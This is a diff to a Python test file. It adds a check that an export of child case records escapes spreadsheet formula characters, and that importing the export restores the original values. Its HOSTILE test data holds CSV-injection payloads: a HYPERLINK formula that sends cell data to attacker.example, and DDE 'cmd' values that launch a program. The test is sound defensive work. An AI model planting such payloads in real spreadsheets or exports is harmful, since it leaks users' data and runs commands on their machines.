@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import io
 import json
@@ -320,6 +321,52 @@ def test_export_import_into_an_empty_database_and_export_again_gives_identical_f
         assert (second / name).read_bytes() == (first / name).read_bytes(), name
     manifest = json.loads((first / formats.MANIFEST).read_text(encoding="utf-8"))
     assert manifest["source_system"] == "safehub"
+
+
+# What a spreadsheet would run as a formula if a cell began with it (OWASP CSV injection).
+HOSTILE = {
+    "given_name": '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
+    "family_name": "+cmd|' /C calc'!A0",
+    "school": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "nationality": "-2+3+cmd|' /C calc'!A0",
+    "first_language": "'=already quoted",
+}
+
+
+def test_exported_cells_cannot_run_as_spreadsheet_formulas_and_import_restores_them(
+    tmp_path: Path, make_user: Callable[..., User]
+) -> None:
+    practitioner = make_user(Role.HUB_PRACTITIONER)
+    child = people.register_child(
+        acting_user=practitioner, date_of_birth="2005-01-02", sex="F", **HOSTILE
+    )
+    people.record_address(
+        child, valid_from=dt.date(2023, 4, 1), ward_code="E05001352", acting_user=practitioner
+    )
+    first, second = tmp_path / "first", tmp_path / "second"
+    _export(first)
+    with (first / "children.csv").open(encoding="utf-8", newline="") as stream:
+        (row,) = list(csv.DictReader(stream))
+    assert row["given_name"] == "'" + HOSTILE["given_name"]
+    assert row["family_name"] == "'" + HOSTILE["family_name"]
+    assert row["school"] == "'" + HOSTILE["school"]
+    assert row["nationality"] == "'" + HOSTILE["nationality"]
+    assert row["first_language"] == "''=already quoted"
+    # Dates and other typed values are written as they are.
+    assert row["date_of_birth"] == "2005-01-02"
+    assert row["recorded_at"][:4].isdigit()
+    for cell in row.values():
+        assert not cell or cell[0] not in "=+-@\t\r", cell
+
+    for model in CASE_MODELS:
+        model.objects.all().delete()
+    LegacyIdentifier.objects.all().delete()
+    _import(first)
+    imported = Child.objects.get()
+    assert {name: getattr(imported, name) for name in HOSTILE} == HOSTILE
+    _export(second)
+    for spec in formats.FILES:
+        assert (second / spec.filename).read_bytes() == (first / spec.filename).read_bytes()
 
 
 def test_export_is_scoped_permitted_and_audited(
